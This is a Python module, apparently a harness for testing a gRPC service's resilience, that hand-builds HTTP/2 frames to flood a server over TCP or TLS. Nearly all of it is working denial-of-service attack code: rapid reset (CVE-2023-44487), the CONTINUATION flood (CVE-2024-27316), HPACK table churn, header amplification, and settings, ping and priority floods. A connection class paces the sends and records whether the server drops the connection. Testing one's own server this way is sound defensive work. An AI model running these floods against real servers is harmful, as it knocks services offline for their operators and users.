"""What floods an HTTP/2 server, frame by frame, over TCP or TLS."""

import select
import socket
import ssl
import struct
import time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = range(5)
PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(6, 10)
UNKNOWN = 0x42
END_STREAM = ACK = 0x1
END_HEADERS = 0x4

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
LOCALIZE = "/treeline.v1.RelocalizationService/Localize"
LIST_SCENES = "/treeline.v1.SceneService/ListScenes"


def frame(kind, flags=0, stream=0, payload=b""):
    """RFC 9113, section 4.1."""
    return (struct.pack(">I", len(payload))[1:] +
            struct.pack(">BBI", kind, flags, stream) + payload)


def number(value, bits, first=0):
    """An integer of HPACK (RFC 7541, section 5.1) with a prefix of `bits`."""
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append(0x80 | value % 128)
        value //= 128
    out.append(value)
    return bytes(out)


def text(value):
    return number(len(value), 7) + value


def keep(name, value):
    """A field that enters the table; its name is a number or text."""
    if isinstance(name, int):
        return number(name, 6, 0x40) + text(value)
    return b"\x40" + text(name) + text(value)


def first_call(path):
    """The block of headers of a call, which fills the table."""
    return (b"\x83\x86" + keep(4, path.encode()) + keep(b"te", b"trailers") +
            keep(31, b"application/grpc") + keep(1, b"treeline"))


# POST, http and the four of first_call, from the table.
NEXT_CALL = b"\x83\x86\xc1\xc0\xbf\xbe"


class Calls:
    """Blocks of headers of one call after the other."""

    def __init__(self, path=LOCALIZE):
        self.path = path
        self.stream = -1

    def open(self, flags=END_HEADERS, more=b""):
        self.stream += 2
        block = first_call(self.path) if self.stream == 1 else NEXT_CALL
        return frame(HEADERS, flags, self.stream, block + more)


def resets(calls, _):
    """Rapid reset: CVE-2023-44487."""
    return calls.open() + frame(RST_STREAM, 0, calls.stream, bytes(4))


def resets_after_data(calls, _):
    """The same with the beginning of a message."""
    return (calls.open() + frame(DATA, 0, calls.stream, b"\0\0\x01\0\0ab") +
            frame(RST_STREAM, 0, calls.stream, bytes(4)))


def resets_after_payload(calls, _):
    """The same with as much of a message as pays for a call."""
    return (calls.open() + frame(DATA, 0, calls.stream,
                                 b"\0\0\x10\0\0" + bytes(16379)) +
            frame(RST_STREAM, 0, calls.stream, bytes(4)))


def calls_without_end(calls, _):
    """More calls than a connection may have, none of which goes on."""
    return calls.open()


def empty_calls(calls, _):
    """Calls that are over at once, since they have no message."""
    return calls.open(END_HEADERS | END_STREAM)


def settings(_, index):
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535 + index % 2))


def empty_settings(*_):
    return frame(SETTINGS)


def pings(_, index):
    return frame(PING, 0, 0, struct.pack(">Q", index))


def ping_answers(_, index):
    """Of pings that nobody sent."""
    return frame(PING, ACK, 0, struct.pack(">Q", index))


def priorities(_, index):
    return frame(PRIORITY, 0, 1 + 2 * (index % 1000), struct.pack(">IB", 0, 7))


def window_updates(_, index):
    return frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))


def unknown_frames(*_):
    return frame(UNKNOWN, 0, 0, b"x")


def late_resets(calls, _):
    """Of a stream that ended long ago."""
    begin = b""
    if calls.stream < 0:
        begin = calls.open()
    return begin + frame(RST_STREAM, 0, 1, bytes(4))


def empty_data(calls, _):
    begin = calls.open() if calls.stream < 0 else b""
    return begin + frame(DATA, 0, calls.stream)


def crumbs(calls, _):
    """A message of 1 MiB, a byte a frame."""
    begin = b""
    if calls.stream < 0:
        begin = calls.open() + frame(DATA, 0, 1, b"\0\0\x10\0\0")
    return begin + frame(DATA, 0, calls.stream, b"x")


def continuations(calls, _):
    """A block of headers without end: CVE-2024-27316."""
    begin = calls.open(flags=0) if calls.stream < 0 else b""
    return begin + frame(CONTINUATION, 0, calls.stream,
                         b"\x00" + text(b"x") + text(b"y" * 100))


def empty_continuations(calls, _):
    begin = calls.open(flags=0) if calls.stream < 0 else b""
    return begin + frame(CONTINUATION, 0, calls.stream)


def repeated_headers(calls, _):
    """Calls that name a value of 3000 bytes twice, by two bytes."""
    if calls.stream < 0:
        return calls.open(more=keep(b"x", b"v" * 3000) + b"\xbe")
    calls.stream += 2
    # It is the newest, number 62; the fields of the call come after it.
    return frame(HEADERS, END_HEADERS, calls.stream,
                 b"\x83\x86\xc2\xc1\xc0\xbf\xbe\xbe")


def table_churn(calls, _):
    """Fields that push each other out of the table."""
    calls.stream += 2
    return frame(HEADERS, END_HEADERS, calls.stream,
                 b"".join(keep(b"k%d" % i, b"") for i in range(1500)))


class Attack:
    """One connection, which is attacked with what `make` makes."""

    def __init__(self, address, make, authority=None, path=LOCALIZE,
                 read=True, acknowledge=True, source="127.0.0.1"):
        host, port = address.rsplit(":", 1)
        self.make = make
        self.calls = Calls(path)
        self.read = read
        self.index = 0
        self.cut = False
        self.socket = socket.create_connection((host, int(port)), 10,
                                               (source, 0))
        # What the server does not read must not pile up here.
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 16)
        try:
            if authority is not None:
                context = ssl.create_default_context(cafile=authority)
                context.set_alpn_protocols(["h2"])
                self.socket = context.wrap_socket(self.socket,
                                                  server_hostname=host)
            self._send(PREFACE + frame(SETTINGS) +
                       (frame(SETTINGS, ACK) if acknowledge else b""))
        except OSError:
            self.cut = True

    def close(self):
        self.socket.close()

    def _drain(self):
        """What the server says, so that it need not keep it."""
        while self.read:
            pending = getattr(self.socket, "pending", lambda: 0)()
            if not pending and not select.select([self.socket], [], [], 0)[0]:
                return
            if not self.socket.recv(1 << 16):
                raise ConnectionError("closed")

    def _send(self, data):
        self.socket.settimeout(10)
        self.socket.sendall(data)
        self._drain()

    def send(self, count):
        """So many more; False: the server closed the connection."""
        end = self.index + count
        try:
            while self.index < end and not self.cut:
                batch = min(500, end - self.index)
                self._send(b"".join(self.make(self.calls, self.index + i)
                                    for i in range(batch)))
                self.index += batch
        except OSError:
            self.cut = True
        return not self.cut

    def send_paced(self, per_s, seconds):
        start, first = time.monotonic(), self.index
        while time.monotonic() - start < seconds and not self.cut:
            due = first + int((time.monotonic() - start) * per_s) - self.index
            if due > 0:
                self.send(due)
            time.sleep(0.02)
        return not self.cut

    def wait_cut(self, seconds):
        """Whether the server closes it within this time."""
        end = time.monotonic() + seconds
        while not self.cut and time.monotonic() < end:
            try:
                self.socket.settimeout(max(0.01, end - time.monotonic()))
                self.cut = not self.socket.recv(1 << 16)
            except TimeoutError:
                break
            except OSError:
                self.cut = True
        return self.cut
